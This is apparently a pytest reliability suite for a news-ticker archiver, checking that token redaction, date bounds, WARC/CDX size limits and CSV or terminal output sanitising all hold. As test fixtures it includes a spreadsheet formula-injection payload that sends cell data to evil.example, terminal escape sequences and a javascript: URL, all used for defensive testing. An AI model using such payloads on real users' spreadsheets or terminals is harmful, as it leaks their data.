"""Issue 19's peripheral attack classes: each reproduction of an attack that stored wrong history,
leaked a secret or stopped ticker without a word, now refused, bounded or said."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers_front import build_history
from helpers_import import WarcFile, Wayback, http_date, parse_stamp, stamp
from rbc_markup import render_item, render_page, standard_items
from werkzeug import Response

from reliability import faultserver as fs
from reliability.support import page_bytes, rows
from ticker.cli import main
from ticker.cli.commands.serve import make_datasette
from ticker.core.base import Headline, TickerPage, to_iso, to_moscow_text
from ticker.core.politeness import MAX_CONSECUTIVE_FAILURES, MAX_WAIT_S, failure_wait, honoured_wait, stops
from ticker.core.settings import ArchiveSettings
from ticker.db import archive
from ticker.db.archive import forget_decoded
from ticker.db.schema import open_db
from ticker.db.writes import FetchRow, save_ticker
from ticker.jobs.importing import Politeness as ImportPoliteness
from ticker.jobs.importing import import_wayback
from ticker.jobs.progress import progress
from ticker.jobs.sources import builtin_source
from ticker.schedules.backoff import MAX_BACKOFF_S
from ticker.scraper.feed_rss import parse_feed
from ticker.scraper.http import make_client
from ticker.scraper.links import same_address
from ticker.scraper.rbc_feed_json import parse_feed_json
from ticker.scraper.warc_reader import MAX_HEADER_LINE, Reader
from ticker.scraper.wayback import CdxError, query_cdx, replay_hop
from ticker.web.plugins.ticker_csv import CsvRewriter

pytestmark = pytest.mark.reliability

SECRET = "tok3n-N3VER-st0red"


def _database_bytes(db: Path) -> bytes:
    """The database file and whatever its WAL and journal hold, as another reader of the disk sees them."""
    return b"".join(
        path.read_bytes() for path in (db, Path(f"{db}-wal"), Path(f"{db}-journal")) if path.exists()
    )


# ---- 4. secrets: relative links resolve against the redacted address
def test_a_token_in_the_source_address_never_reaches_the_database(fault_server, tmp_path):
    """Relative links (`#story`, `?page=2`, `story/1`, `#`) on a page polled at an address with a
    `?token=`: stored resolved against the redacted address; the token is nowhere in the file or WAL."""
    items = standard_items(6)
    for item, href in zip(items, ["#story", "?page=2", "story/1", "#"], strict=False):
        item.href = href
    url = fault_server.route("/", fs.static(render_page(items).encode()))
    db = tmp_path / "ticker.db"
    result = CliRunner().invoke(
        main, ["fetch", "rbc", "--url", f"{url}?section=x&token={SECRET}", "--db", str(db)]
    )
    assert result.exit_code == 0, result.output
    stored = dict(rows(db, "SELECT id, url FROM headlines"))
    assert stored[items[0].id] == f"{url}?section=x&token=***#story"
    assert stored[items[1].id] == f"{url}?page=2"
    assert stored[items[2].id] == f"{url}story/1"
    assert SECRET.encode() not in _database_bytes(db)
    assert SECRET not in result.output


def test_a_token_in_a_backfill_address_never_reaches_the_database(httpserver, tmp_path):
    """The backfill parses feed pages itself: its links too resolve against the redacted address."""
    items = standard_items(3)
    items[0].href = "#story"
    body = json.dumps({"items": [{"html": render_item(item, n), "publish_date_t": 1732557600}
                                 for n, item in enumerate(items, start=1)]})  # fmt: skip
    httpserver.expect_request(re.compile(r"^/feed/lastDate/\d+/limit/\d+$")).respond_with_data(
        body, content_type="application/json"
    )
    url = httpserver.url_for("/feed/lastDate/1/limit/20") + f"?token={SECRET}"
    db = tmp_path / "ticker.db"
    result = CliRunner().invoke(
        main, ["backfill", "rbc", "--url", url, "--max-pages", "1", "--since", "2024-11-25", "--db", str(db)]
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    stored = dict(rows(db, "SELECT id, url FROM headlines"))
    assert stored[items[0].id].endswith("token=***#story")
    assert SECRET.encode() not in _database_bytes(db)


# ---- 9. times of 9999: refused at the edge, never a crash when shown
def _feed_json(stamps: list[object]) -> bytes:
    items = standard_items(len(stamps))
    for item in items:
        item.modif = False  # the feed's publish_date_t is then the item's time
    return json.dumps(
        {
            "items": [
                {"html": render_item(item, n), "publish_date_t": stamp}
                for n, (item, stamp) in enumerate(zip(items, stamps, strict=True), start=1)
            ]
        }
    ).encode()


def test_feed_json_with_odd_publish_times_keeps_every_item_without_the_time():
    good = 1732557600
    stamps = [good] * 14
    stamps[3], stamps[5], stamps[7], stamps[9] = "²", 253402300799, "253402300799", -5
    page = parse_feed_json(_feed_json(stamps), fetched_at=datetime(2024, 11, 25, 18, tzinfo=UTC))
    assert len(page.headlines) == 14  # before: "²" made the whole answer a parse_error
    times = [headline.published_at for headline in page.headlines]
    # the four odd stamps are ignored: those items keep the time their own markup shows
    assert all(at is not None and at.startswith("2024-11-25") for at in times), times
    assert sum("publish_date_t" in warning for warning in page.warnings) == 4


@pytest.mark.parametrize(
    "pub_date",
    [
        "Fri, 31 Dec 9999 23:59:59 +0000",
        "Sat, 01 Jan 1000 00:00:00 GMT",
        "9999-12-31T23:59:59Z",
        "Mon, 01 Jan 2102 00:00:00 MSK",
    ],
)
def test_feed_dates_outside_the_years_keep_the_item_without_a_time(pub_date):
    feed = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
        "<link>https://feed.example/</link><description>d</description>"
        f"<item><title>Odd</title><guid>odd-1</guid><pubDate>{pub_date}</pubDate></item>"
        "<item><title>Fine</title><guid>ok-1</guid><pubDate>Mon, 25 Nov 2024 19:05:00 +0300</pubDate></item>"
        "</channel></rss>"
    ).encode()
    page = parse_feed(feed, base_url="https://feed.example/", content_type=None, fetched_at=datetime.now(UTC))
    assert [(h.id, h.published_at) for h in page.headlines] == [
        ("odd-1", None),
        ("ok-1", "2024-11-25T16:05:00Z"),
    ]
    assert any("1990..2100" in warning for warning in page.warnings)


def test_rbc_rss_of_9999_is_stored_without_the_time(fault_server, tmp_path):
    feed = (
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
        b"<link>http://www.rbc.ru/</link><description>d</description>"
        b"<item><title>9999-12-31T23:59:59Z</title><link>http://www.rbc.ru/a/5a1806a09a79474f2f7c3ed1</link>"
        b"<guid>5a1806a09a79474f2f7c3ed1</guid><pubDate>Fri, 31 Dec 9999 23:59:59 +0000</pubDate></item>"
        b"</channel></rss>"
    )
    url = fault_server.route("/rss", fs.static(feed, content_type="application/rss+xml"))
    db = tmp_path / "ticker.db"
    result = CliRunner().invoke(main, ["fetch", "rbc", "--channel", "rss", "--url", url, "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert rows(db, "SELECT published_at FROM headlines") == [(None,)]
    assert "pubDate" in rows(db, "SELECT warning FROM fetches")[0][0]


ODD_ID = "674400009a79470000000999"


@pytest.fixture
def odd_history(tmp_path: Path) -> Path:
    """The known front history plus a headline whose stored time is 9999 and whose title looks
    like a time (as an older version stored them)."""
    db_path = tmp_path / "ticker.db"
    build_history(db_path)
    db = open_db(db_path)
    odd = Headline(id=ODD_ID, url=None, title="9999-12-31T23:59:59Z", rubric="0001-01-01 00:00",
                   kind="news", published_at="9999-12-31T23:59:59Z", position=1)  # fmt: skip
    row = FetchRow(
        source="rbc", channel="page", url="http://test/rbc", started_at="2024-11-26T10:05:00Z", outcome="ok"
    )
    save_ticker(db, row, TickerPage(headlines=(odd,)))
    db.close()
    return db_path


def test_a_stored_time_of_9999_never_crashes_a_reader(odd_history):
    runner = CliRunner()
    for args in (["at", "2024-11-26T13:06"], ["cite", ODD_ID], ["changes", "--since", "2024-11-25"],
                 ["at", "2024-11-26T13:06", "--csv"], ["status"]):  # fmt: skip
        result = runner.invoke(main, [*args, "--db", str(odd_history)])
        assert result.exit_code == 0, (args, result.output, result.exception)
        assert "9999-12-31T23:59:59Z" in result.output or args[0] in ("changes", "status")
    assert to_moscow_text("9999-12-31T23:59:59Z") == "9999-12-31T23:59:59Z (not a time ticker can show)"
    assert to_moscow_text("2024-11-25T10:00:00Z") == "2024-11-25 13:00:00 MSK"


async def test_a_stored_time_of_9999_never_500s_a_page(odd_history):
    ds = make_datasette(odd_history)
    for path in (f"/-/headline/{ODD_ID}", "/-/ticker?source=rbc&at=2024-11-26T13:06", "/ticker/headlines",
                 "/ticker/headline_titles", "/ticker/headline_exits"):  # fmt: skip
        response = await ds.client.get(path)
        assert response.status_code == 200, (path, response.text[-500:])


# ---- 11. a database path that is no file: one line, never a traceback or a hang
@pytest.fixture
def not_files(tmp_path: Path) -> dict[str, str]:
    fifo = tmp_path / "pipe.db"
    os.mkfifo(fifo)
    return {
        "/": "names a folder",
        str(tmp_path): "is a directory",
        str(fifo): "is a FIFO",
        "/dev/null": "character device",
    }


def test_a_database_path_that_is_no_file_is_one_error_line(tmp_path, not_files):
    runner = CliRunner()
    for path, said in not_files.items():
        config = tmp_path / "ticker.toml"
        config.write_text(f'db = "{path}"\n[sources.rbc]\nkind = "rbc"\nurl = "http://127.0.0.1:9/"\n')
        for args in (["run", "--config", str(config)], ["fetch", "rbc", "--config", str(config)],
                     ["fetch", "rbc", "--url", "http://127.0.0.1:9/", "--db", path], ["at", "now", "--db", path],
                     ["cite", "x", "--db", path], ["status", "--db", path], ["archive", "stats", "--db", path],
                     ["run", "--db", path]):  # fmt: skip
            result = runner.invoke(main, args)
            assert result.exit_code == 1, (args, result.output, result.exception)
            assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
            lines = result.output.strip().splitlines()
            # commands that only read may say there is no database file there: also one line
            reason = said in lines[0] or (args[0] in ("status", "archive") and "no database at" in lines[0])
            assert len(lines) == 1 and lines[0].startswith("Error:") and reason, (args, result.output)


# ---- 12. CSV exports never hand a spreadsheet a formula; import messages never drive a terminal
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
FORMULA_ID = "674400009a79470000000f0f"


@pytest.fixture
def formula_history(tmp_path: Path) -> Path:
    db_path = tmp_path / "ticker.db"
    build_history(db_path)
    db = open_db(db_path)
    hostile = Headline(id=FORMULA_ID, url=None, title=FORMULA, rubric="@SUM(1+1)", kind="-2+3",
                       published_at="2024-11-26T10:01:00Z", position=1)  # fmt: skip
    row = FetchRow(
        source="rbc", channel="page", url="http://test/rbc", started_at="2024-11-26T10:05:00Z", outcome="ok"
    )
    save_ticker(db, row, TickerPage(headlines=(hostile,)))
    db.close()
    return db_path


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, plain numbers aside."""
    cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    return [
        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-][\d.]+", c)
    ]


def test_cli_csv_neutralises_formula_cells(formula_history):
    runner = CliRunner()
    for args in (["at", "2024-11-26T13:06"], ["changes", "--since", "2024-11-26T13:00"], ["rates"]):
        result = runner.invoke(main, [*args, "--csv", "--db", str(formula_history)])
        assert result.exit_code == 0, result.output
        assert _formula_cells(result.output) == [], (args, result.output)
        if args[0] != "rates":
            assert "'" + FORMULA in next(
                csv.reader([line for line in result.output.splitlines() if "HYPERLINK" in line])
            )
    rates = runner.invoke(main, ["rates", "--csv", "--db", str(formula_history)]).output
    assert "+1.45" in rates.split(",") or ",+1.45" in rates  # a signed number stays a number


async def test_datasette_csv_neutralises_formula_cells(formula_history):
    ds = make_datasette(formula_history)
    for path in ("/ticker/headline_titles.csv", "/ticker/headline_titles.csv?_stream=1",
                 "/ticker/headlines.csv?_dl=1", "/ticker.csv?sql=select+title,+rubric+from+headline_titles,+headlines"):  # fmt: skip
        response = await ds.client.get(path)
        assert response.status_code == 200, (path, response.text[:300])
        assert "HYPERLINK" in response.text or "headlines" in path
        assert _formula_cells(response.text) == [], (path, response.text[:500])
    html = await ds.client.get("/ticker/headline_titles")
    assert html.status_code == 200 and "HYPERLINK" in html.text  # the HTML pages are untouched


def test_csv_rewriter_handles_records_split_anywhere():
    source = io.StringIO()
    writer = csv.writer(source)  # Datasette's own dialect: CRLF, minimal quoting
    records = [["id", "title"], [1, FORMULA], [2, 'line one\r\n"=still" inside'], [3, "-0.56"], [4, "@x"]]
    writer.writerows(records)
    data = source.getvalue().encode()
    for size in (1, 2, 7, len(data)):
        rewriter = CsvRewriter()
        chunks = [data[i : i + size] for i in range(0, len(data), size)]
        out = b"".join(rewriter.feed(chunk, final=n == len(chunks) - 1) for n, chunk in enumerate(chunks))
        parsed = list(csv.reader(io.StringIO(out.decode(), newline="")))
        assert parsed == [["id", "title"], ["1", "'" + FORMULA], ["2", 'line one\r\n"=still" inside'],
                          ["3", "-0.56"], ["4", "'@x"]]  # fmt: skip


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\u202e"


def test_import_messages_never_print_terminal_escapes(httpserver, tmp_path):
    """Addresses and messages an archive controls reach the summary lines, warnings and the
    progress notes as `\\u001b`-style text."""
    archive = Wayback(httpserver)
    archive.add(datetime(1970, 1, 1, tzinfo=UTC), "x", original=f"https://www.rbc.ru/{ESCAPES}")
    archive.add(datetime(2022, 2, 24, 3, tzinfo=UTC), archive.plain(404, ESCAPES))
    result = CliRunner().invoke(main, [
        "import", "wayback", "rbc", "--cdx-url", archive.cdx_url, "--replay-url", archive.replay_url,
        "--pause", "0", "--throttle-pause", "0", "--db", str(tmp_path / "t.db"),
    ])  # fmt: skip
    assert "\\u001b" in result.output, result.output
    assert not any(char in result.output for char in "\x1b\x07\u202e")
    stream = io.StringIO()
    with progress(3, "importing", stream=stream) as bar:
        bar.note(f"HTTP 429 from {ESCAPES}")
    assert "\x1b" not in stream.getvalue() and "\\u001b" in stream.getvalue()


# ---- 1, 2, 3. imports: only the source's own captures, dated as the index says, on the replay server
T = datetime(2022, 2, 24, 3, 0, 5, tzinfo=UTC)


def _rbc_page(start: int) -> str:
    return render_page(standard_items(14, start=start, newest=T))


def test_wayback_refuses_captures_it_cannot_believe(httpserver, fault_server, tmp_path):
    archive = Wayback(httpserver)
    hour = timedelta(hours=1)
    # 1. a Memento-Datetime of 2099 for a row of 2022; one 3 days off; a row dated 2099
    archive.add(T, archive.memento(datetime(2099, 1, 1, tzinfo=UTC), _rbc_page(0)))
    archive.add(T + hour, archive.memento(T + hour + timedelta(days=3), _rbc_page(1)))
    archive.add(datetime(2099, 6, 1, tzinfo=UTC), _rbc_page(2))
    # 2. a row of another address (a CDX server may list one)
    archive.add(T + 2 * hour, _rbc_page(3), original="https://www.rbc.ru/?section=sport")
    # 3. redirects to another host (with 14 digits in its path) and to another address
    foreign_ts = stamp(T + 3 * hour + timedelta(minutes=1))
    foreign = fault_server.route(
        f"/{foreign_ts}/",
        fs.static(_rbc_page(4).encode(), extra={"Memento-Datetime": http_date(T + 3 * hour)}),
    )
    archive.add(T + 3 * hour, archive.plain(302, headers={"Location": foreign}))
    archive.add(
        T + 4 * hour, archive.redirect_to(T + 4 * hour + timedelta(minutes=1), "https://evil.example/")
    )
    good = archive.add(T + 5 * hour, _rbc_page(5))
    db = tmp_path / "t.db"
    result = CliRunner().invoke(main, [
        "import", "wayback", "rbc", "--cdx-url", archive.cdx_url, "--replay-url", archive.replay_url,
        "--pause", "0", "--throttle-pause", "0", "--db", str(db), "--json",
    ])  # fmt: skip
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)[0]
    assert summary["not_captures"] == {"date_refused": 3, "other_address": 1, "redirect_elsewhere": 2}
    assert rows(db, "SELECT started_at FROM fetches") == [(to_iso(parse_stamp(good)),)]
    assert fault_server.hits.get(f"/{foreign_ts}/", 0) == 0  # the other host is never asked
    assert stamp(datetime(2099, 6, 1, tzinfo=UTC)) not in archive.memento_requests
    assert any("after now" in warning for warning in summary["warnings"])
    assert any("more than 1 day from its index row" in warning for warning in summary["warnings"])


def test_warc_records_of_another_address_or_the_future_are_not_the_source(tmp_path):
    config = tmp_path / "ticker.toml"
    config.write_text(
        f'db = "{tmp_path / "t.db"}"\n[sources.politics]\nkind = "rbc"\nurl = "https://www.rbc.ru/?section=politics"\n'
    )
    warc = WarcFile(tmp_path / "a.warc.gz", gzip=True)
    page = _rbc_page(0).encode()
    warc.response("https://www.rbc.ru/?section=sport", page, T)
    warc.response("https://www.rbc.ru/", page, T + timedelta(minutes=1))
    warc.response("https://www.rbc.ru/?section=politics&page=2", page, T + timedelta(minutes=2))
    warc.response("http://WWW.RBC.ru/?utm_source=tg&section=politics", page, T + timedelta(minutes=3))
    warc.response("https://rbc.ru/?section=politics", page, datetime(2099, 1, 1, tzinfo=UTC))
    warc.close()
    result = CliRunner().invoke(
        main, ["import", "warc", str(tmp_path / "a.warc.gz"), "--config", str(config), "--json"]
    )
    assert result.exit_code == 0, result.output
    (summary,) = json.loads(result.stdout)
    assert (summary["source"], summary["fetched"], summary["not_captures"]) == (
        "politics",
        1,
        {"date_refused": 1},
    )
    assert rows(tmp_path / "t.db", "SELECT started_at FROM fetches") == [("2022-02-24T03:03:05Z",)]


@pytest.mark.parametrize(
    ("recorded", "same"),
    [
        ("http://WWW.rbc.ru:80/?section=politics&utm_medium=x", True),
        ("https://rbc.ru/?from=newsfeed&section=politics#top", True),
        ("https://www.rbc.ru/?section=sport", False),
        ("https://www.rbc.ru/?section=politics&section=sport", False),
        ("https://www.rbc.ru/news/?section=politics", False),
        ("https://www.rbc.ru:8443/?section=politics", False),
        ("https://evil.example/?section=politics", False),
        ("javascript:alert(1)", False),
    ],
)
def test_the_address_rule(recorded, same):
    assert same_address(recorded, "https://www.rbc.ru/?section=politics") is same


def test_replay_hops_are_the_replay_servers_own_mementos():
    replay = "https://web.archive.org/web/"
    hop = replay_hop("https://web.archive.org/web/20220224030005id_/https://www.rbc.ru/?a=1", replay)
    assert hop is not None and (hop.timestamp, hop.original) == ("20220224030005", "https://www.rbc.ru/?a=1")
    insecure = replay_hop("http://WEB.archive.org/web/20220224030005/http://www.rbc.ru/", replay)
    assert insecure is not None and insecure.original == "http://www.rbc.ru/"  # the same server
    for elsewhere in ("https://evil.example/web/20220224030005id_/https://www.rbc.ru/",
                      "https://evil.example/20220224030005/", "https://web.archive.org:8443/web/20220224030005id_/x",
                      "https://web.archive.org/other/20220224030005id_/https://www.rbc.ru/"):  # fmt: skip
        assert replay_hop(elsewhere, replay) is None, elsewhere


# ---- 7. a `bodies` row of the wrong type: "corrupt" for that body, everything else goes on
@pytest.mark.parametrize(
    "damage",
    [
        "data = 'text'",
        "data = CAST(data AS TEXT)",
        "bytes = 'many'",
        "compression = 7",
        "chain_depth = 'deep'",
        "base_sha256 = 5",
    ],
)
def test_a_bodies_row_of_the_wrong_type_is_corrupt_not_a_crash(fault_server, tmp_path, damage):
    number = iter(range(100))
    url = fault_server.route("/", fs.dynamic(lambda n: page_bytes(14, start=next(number))))
    db = tmp_path / "t.db"
    runner = CliRunner()
    for _ in range(2):
        assert runner.invoke(main, ["fetch", "rbc", "--url", url, "--db", str(db)]).exit_code == 0
    conn = sqlite3.connect(db)
    with conn:
        conn.execute(f"UPDATE bodies SET {damage} WHERE rowid = (SELECT max(rowid) FROM bodies)")
        damaged = conn.execute("SELECT sha256 FROM bodies ORDER BY rowid DESC LIMIT 1").fetchone()[0]
    conn.close()
    forget_decoded()  # as a new process would: nothing of the damaged body in memory
    poll = runner.invoke(main, ["fetch", "rbc", "--url", url, "--db", str(db)])  # builds on the damaged body
    assert poll.exit_code == 0, (poll.output, poll.exception)
    assert rows(db, "SELECT outcome FROM fetches ORDER BY id DESC LIMIT 1") == [("ok",)]
    stats = runner.invoke(main, ["archive", "stats", "--db", str(db)])
    assert stats.exit_code == 0, (stats.output, stats.exception)
    show = runner.invoke(main, ["archive", "show", damaged, "--db", str(db)])
    if damage not in ("chain_depth = 'deep'", "data = CAST(data AS TEXT)"):  # these still read whole
        assert show.exit_code == 1 and "corrupt" in show.output and "Traceback" not in show.output, (
            show.output
        )
    reparse = runner.invoke(main, ["reparse", "--db", str(db), "--into", str(tmp_path / "r.db")])
    assert reparse.exit_code in (0, 1) and not isinstance(reparse.exception, TypeError | AttributeError), (
        reparse.output,
        reparse.exception,
    )


# ---- 6. `archive prune --keep changed` racing the daemon
def test_prune_decides_inside_its_write_transaction(fault_server, tmp_path, monkeypatch):
    """Bodies B and C changed nothing when prune listed them; before C's batch, the daemon
    stores a changed fetch whose body is C's bytes. C must stay (before: deleted, two reads)."""
    shown = {"page": page_bytes(14, updated=datetime(2024, 11, 25, 15, 57, tzinfo=UTC))}
    url = fault_server.route("/", fs.dynamic(lambda n: shown["page"]))
    db_path = tmp_path / "t.db"
    runner = CliRunner()

    def poll(page: bytes) -> str:
        shown["page"] = page
        assert runner.invoke(main, ["fetch", "rbc", "--url", url, "--db", str(db_path)]).exit_code == 0
        return rows(db_path, "SELECT body_sha256 FROM fetches ORDER BY id DESC LIMIT 1")[0][0]

    poll(shown["page"])
    quiet = [
        poll(page_bytes(14, updated=datetime(2024, 11, 25, 16, minute, tzinfo=UTC))) for minute in (1, 2)
    ]
    assert (
        rows(db_path, "SELECT items_new, titles_changed, rates_new FROM fetches WHERE id > 1")
        == [(0, 0, 0)] * 2
    )
    racing_page = page_bytes(14, updated=datetime(2024, 11, 25, 16, 2, tzinfo=UTC))

    def daemon_writes_meanwhile(deleted: int) -> None:
        if len(rows(db_path, "SELECT id FROM fetches")) == 3:
            poll(page_bytes(14, start=20))  # other items: the next poll brings the first ones back
            assert poll(racing_page) == quiet[1]  # a changed fetch whose body is C's bytes

    monkeypatch.setattr(archive, "PRUNE_BATCH", 1)
    db = open_db(db_path)
    pruned = archive.prune(db, ArchiveSettings(keep="changed"), on_batch=daemon_writes_meanwhile)
    db.close()
    assert pruned.by_mode == 1
    assert rows(db_path, "SELECT count(*) FROM bodies WHERE sha256 = ?", (quiet[1],)) == [(1,)]
    assert rows(db_path, "SELECT count(*) FROM bodies WHERE sha256 = ?", (quiet[0],)) == [(0,)]


# ---- 8. WARC and CDX bounded by bytes; unreadable records counted and said
def _raw_record(
    uri: str, when: str, body: bytes, *, extra: str = "", status_line: str = "HTTP/1.1 200 OK"
) -> bytes:
    block = (
        f"{status_line}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:{abs(hash((uri, when, extra))):032x}>\r\n"
        f"WARC-Target-URI: {uri}\r\nWARC-Date: {when}\r\n{extra}"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(block)}\r\n\r\n"
    )
    return head.encode() + block + b"\r\n\r\n"


def test_a_huge_header_line_stops_the_file_and_unreadable_records_are_counted(tmp_path):
    page = _rbc_page(0).encode()
    path = tmp_path / "odd.warc"
    path.write_bytes(
        _raw_record("https://www.rbc.ru/", "2022-02-24T03:00:05Z", page)
        + _raw_record("https://www.rbc.ru/", "not a date", page)
        + _raw_record("https://www.rbc.ru/", "2022-02-24T04:00:05Z", page, status_line="HTTP/1.1 OK")
        + _raw_record(
            "https://www.rbc.ru/", "2022-02-24T05:00:05Z", page, extra=f"X-Long: {'a' * 200_000}\r\n"
        )
        + _raw_record("https://www.rbc.ru/", "2022-02-24T06:00:05Z", page)
    )
    db = tmp_path / "t.db"
    result = CliRunner().invoke(main, ["import", "warc", str(path), "--db", str(db), "--json"])
    assert result.exit_code == 1  # the rest of the file was not read: said, like a truncated file
    assert (
        f"a header line longer than {MAX_HEADER_LINE} bytes after record 3: the rest of the file"
        in result.output
    )
    (summary,) = json.loads(result.stdout)
    assert (summary["fetched"], summary["not_captures"]) == (1, {"unreadable": 2})
    assert any("is not a date" in warning for warning in summary["warnings"])
    assert any("has no status" in warning for warning in summary["warnings"])


def test_revisit_payloads_are_kept_within_a_byte_bound(tmp_path):
    """Each payload is 300 KB: with 1 MB kept, a revisit of the oldest finds nothing (said), one of
    the latest resolves (before: the 200 latest payloads were kept whatever their size)."""
    warc = WarcFile(tmp_path / "r.warc.gz", gzip=True)
    digests = []
    for n in range(6):
        body = bytes([n]) * 300_000
        digests.append(warc.response(f"https://www.rbc.ru/?p={n}", body, T + timedelta(minutes=n))[1])
    warc.revisit("https://www.rbc.ru/?p=0", digests[0], "https://www.rbc.ru/?p=0", T, T + timedelta(hours=1))
    warc.revisit("https://www.rbc.ru/?p=5", digests[5], "https://www.rbc.ru/?p=5", T + timedelta(minutes=5),
                 T + timedelta(hours=2))  # fmt: skip
    warc.close()
    reader = Reader(max_kept_bytes=1_000_000)
    revisits = [record for record in reader.records(tmp_path / "r.warc.gz") if record.revisit]
    assert revisits[0].body is None and "not among the files read or the last" in revisits[0].problem
    assert revisits[1].body == bytes([5]) * 300_000


def test_cdx_answers_are_bounded_by_bytes(httpserver):
    """A CDX server that pages for ever with long rows: stopped once its answers pass the bound
    (before: every row kept, 1.8 GB, then a hang), before the page limit."""
    served = {"pages": 0}

    def page(request):
        served["pages"] += 1
        rows = [["timestamp", "original"]] + [
            [f"2022022403{n % 60:02d}05", f"https://www.rbc.ru/?utm_x={'a' * 4000}{n}"] for n in range(50)
        ]
        return Response(json.dumps([*rows, [], [f"key{served['pages']}"]]), content_type="application/json")

    httpserver.expect_request("/cdx").respond_with_handler(page)
    with make_client() as client, pytest.raises(CdxError, match="passed 1000000 bytes after 5 page"):
        query_cdx(
            client,
            httpserver.url_for("/cdx"),
            "https://www.rbc.ru/",
            start=None,
            end=None,
            max_bytes=1_000_000,
        )
    assert served["pages"] == 5


# ---- 13. one politeness for every requester
def test_one_rule_for_waits_and_stops():
    assert failure_wait(60, 1) == 60 and failure_wait(60, 2) == 120 and failure_wait(60, 9) == 480
    assert failure_wait(60, 1, retry_after_s=300) == 300  # a longer Retry-After is honoured
    assert failure_wait(60, 1, retry_after_s=10**9) == MAX_WAIT_S  # never past the cap
    assert honoured_wait(None) is None and honoured_wait(-5) == 0
    assert MAX_BACKOFF_S == MAX_WAIT_S  # the daemon's default cap is the same rule
    assert not stops(MAX_CONSECUTIVE_FAILURES - 1) and stops(MAX_CONSECUTIVE_FAILURES)


def test_an_import_honours_retry_after_within_the_cap(httpserver, tmp_path):
    """Before: the importers ignored Retry-After (a fixed 60 s pause after a 429) while the
    daemon honoured it up to 30 minutes; now both follow `ticker.core.politeness`."""
    archive = Wayback(httpserver)
    archive.add(T, _rbc_page(0))
    httpserver.expect_oneshot_request("/cdx/search/cdx").respond_with_data(
        "", status=429, headers={"Retry-After": "300"}
    )
    slept: list[float] = []
    spec = builtin_source("rbc")
    with make_client() as client:
        client.follow_redirects = False
        summary = import_wayback(
            open_db(tmp_path / "t.db"), client, spec, start=None, end=None, every_s=0, cdx_url=archive.cdx_url,
            replay_url=archive.replay_url, politeness=ImportPoliteness(0, 60, sleep=slept.append),
        )  # fmt: skip
    assert summary.fetched == 1 and summary.throttled == 1
    assert 300 in slept and 60 not in slept
